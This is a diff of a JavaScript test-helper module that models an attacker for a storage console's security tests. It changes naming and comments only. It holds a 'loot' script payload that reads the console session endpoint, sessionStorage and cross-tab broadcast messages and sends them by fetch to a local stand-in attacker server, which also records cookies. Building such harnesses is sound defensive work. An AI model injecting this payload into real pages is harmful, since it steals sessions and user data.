@@ -1,5 +1,5 @@
 // What an attacker has: buckets to put objects into, addresses of them, and a web server on another
-// port of the same machine, which takes down everything that it is told.
+// port of the same machine, which keeps everything that it receives.
 import { createServer } from "node:http";
 import {
   CreateBucketCommand,
@@ -15,7 +15,7 @@ import { REGION, ROOT_KEYS } from "./server.mjs";
 
 const PRESIGNED_S = 600;
 
-/** A bucket that anybody may read, and the ways to its objects. */
+/** A public bucket, and the ways to its objects. */
 export async function openBucket(server, name) {
   const settings = { endpoint: server.origin, region: REGION, credentials: ROOT_KEYS, forcePathStyle: true };
   const s3 = new S3Client(settings);
@@ -28,7 +28,7 @@ export async function openBucket(server, name) {
   };
   await allow("s3:GetObject");
   return {
-    /** Sets what anybody may do with its objects. */
+    /** Sets what unauthenticated clients may do with its objects. */
     allow,
     /** Sets which pages of other origins may use it; `undefined` for none. */
     cors: (rule) =>
@@ -53,17 +53,17 @@ export async function openBucket(server, name) {
   };
 }
 
-/** A web application of somebody else at another port. `pages` has texts by path. */
-export async function startStranger(pages = {}) {
-  const told = [];
+/** A web application of a third party at another port. `pages` has texts by path. */
+export async function startOtherSite(pages = {}) {
+  const received = [];
   const cookies = [];
   const server = createServer(async (request, response) => {
     if (request.headers.cookie) cookies.push(request.headers.cookie);
-    const { pathname, searchParams } = new URL(request.url, "http://stranger");
-    if (pathname === "/told") {
+    const { pathname, searchParams } = new URL(request.url, "http://other-site");
+    if (pathname === "/received") {
       let body = searchParams.get("text") ?? "";
       for await (const bytes of request) body += bytes;
-      told.push(body);
+      received.push(body);
     }
     const page = pages[pathname];
     response.writeHead(200, { "content-type": "text/html; charset=utf-8" });
@@ -74,7 +74,7 @@ export async function startStranger(pages = {}) {
     origin: `http://localhost:${server.address().port}`,
     pages,
     /** What reached it. */
-    told,
+    received,
     /** The `Cookie` headers that it was sent. */
     cookies,
     stop: () =>
@@ -85,16 +85,16 @@ export async function startStranger(pages = {}) {
   };
 }
 
-/** A script that tells the stranger that it runs, and all it can get hold of. */
-export const loot = (stranger) => `
+/** A script that sends to the other site that it runs, and everything that it can read. */
+export const loot = (otherSite) => `
   document.documentElement?.setAttribute("data-ran", "");
-  const tell = (text) => fetch("${stranger.origin}/told", { method: "POST", mode: "no-cors", body: text });
-  tell("ran at " + location.href);
-  fetch("/_console/session").then((answer) => answer.text()).then(tell, () => undefined);
+  const send = (text) => fetch("${otherSite.origin}/received", { method: "POST", mode: "no-cors", body: text });
+  send("ran at " + location.href);
+  fetch("/_console/session").then((answer) => answer.text()).then(send, () => undefined);
   try {
-    tell("storage " + JSON.stringify(sessionStorage));
+    send("storage " + JSON.stringify(sessionStorage));
     const tabs = new BroadcastChannel("shoseki.session");
-    tabs.onmessage = ({ data }) => tell("heard " + JSON.stringify(data));
+    tabs.onmessage = ({ data }) => send("received " + JSON.stringify(data));
     tabs.postMessage({ kind: "asks" });
   } catch {}
 `;
